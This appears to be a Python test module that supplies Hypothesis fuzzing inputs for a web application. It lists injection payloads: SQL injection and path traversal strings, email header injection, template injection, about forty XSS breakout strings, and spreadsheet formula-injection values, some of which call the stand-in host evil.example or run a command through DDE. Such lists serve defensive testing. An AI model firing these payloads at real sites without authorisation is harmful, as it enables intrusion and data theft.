"""What is sent where something decent is expected."""

from __future__ import annotations

from hypothesis import strategies as st

# Each of them once in every field and every parameter.
NASTY = [
    "", " ", "\x00", "a\x00b", "\ud800", "\uffff\ufdd0", "\u202e\u2066\u200fمرحبا\u2069", "👩‍🌾🏳️‍🌈",
    "e" + "\u0301" * 300, "0000-01-01", "0001-01-01", "9999-12-31", "10000-01-01", "2026-02-30",
    "2026-13", "99:99", "-1", "0", "1e309", "NaN", "-Infinity", "９", "²", "9" * 19, "9" * 400,
    "-" + "9" * 30, "0x10", "1_0", "true", "null", "[]", "{", '{"a": [1]}', "' OR 1=1 --",
    "a'b\"c.d;--", "\\", "%", "%00", "_", "*", "(", "[a-z", "person__user__password", "-name.x",
    "pk__in", "../../etc/passwd", "//evil.example", "javascript:alert(1)", "{{7*191}}{% x %}",
    "a@b\r\nBcc: evil@example.org", "=1+1", "00000000-0000-0000-0000-000000000000", "en\r\nX: y",
    "t-", "tag:", "q=\x00", "z" * 5000, "!" * 300, "1\n2", "٢٠٢٦-٠١-٠١", "today", "A-B-C",
]  # fmt: skip
# Nearly all a request may bring in one field: what takes its square never comes to an end.
VAST = [
    "V" * 1_000_000, "\u0300\u0316" * 150_000, " " * 600_000, '"(' * 300_000, "a@." * 300_000,
    "1-" * 500_000, "x, " + "9" * 5000,
]  # fmt: skip

MARK = "xssq"  # an element no page of ours has

# Forty ways out of an attribute, a text, a script, an SVG, a style or an address.
SCRIPTS = [
    f"<{MARK}>", f"'><{MARK}>", f'"><{MARK}>', f"</textarea><{MARK}>", f"</title><{MARK}>",
    f"</script><{MARK}>", f"</option></select><{MARK}>", f"</style><{MARK}>", f"--><{MARK}>",
    f"]]><{MARK}>", f"</text></svg><{MARK}>", f"<{MARK}/onload=alert(1)>",
    f"<svg/onload=alert(1)><{MARK}>",
    f"<img src=x onerror=alert(1)><{MARK}>", f"<iframe srcdoc='<{MARK}>'>",
    f"<details open ontoggle=alert(1)><{MARK}>",
    '" onfocus=alert(1) autofocus x="', "' onfocus=alert(1) autofocus x='", " onfocus=alert(1) ",
    '" style="x:expression(1)', "' style='color:red", '" hx-on:load="alert(1)',
    '" hx-get="//evil.example',
    '" data-hx-get="//evil.example', '" formaction="javascript:alert(1)', "javascript:alert(1)",
    "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", "//evil.example/x", "https:evil.example", "{{7*191}}",
    "{% raw %}{{7*191}}", "${7*191}",
    "#{7*191}", f"&lt;{MARK}&gt;", f"\u003c{MARK}\u003e\u2028", f"＜{MARK}＞<{MARK}>",
]  # fmt: skip

# What a spreadsheet takes for more than text, plain and in disguise.
FORMULAS = [
    "=1+1", "+1+1", "-1-1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1-1",
    "＠SUM(1)", '=HYPERLINK("http://evil.example","x")', '=WEBSERVICE("http://evil.example")',
    "'=1+1", "''=1+1", '"=1+1', "=cmd|' /C calc'!A1", '=DDE("soffice","x","y")', "x,=1+1",
    'x";=1+1', "x\n=1+1", "x\r\n=1+1", " =1+1",
    "x;=1+1;y", "x;\t=1+1;y", "x\n=1+1;y",
]  # fmt: skip

NUMBER = str(7 * 191)  # what a template makes of {{7*191}}


def any_text() -> st.SearchStrategy[str]:
    """Return what to draw a value from: the nasty ones, and whatever text there is."""
    return st.one_of(
        st.sampled_from(NASTY),
        st.text(max_size=60),
        st.integers().map(str),
        st.dates().map(str),
        st.floats().map(str),
        st.uuids().map(str),
    )
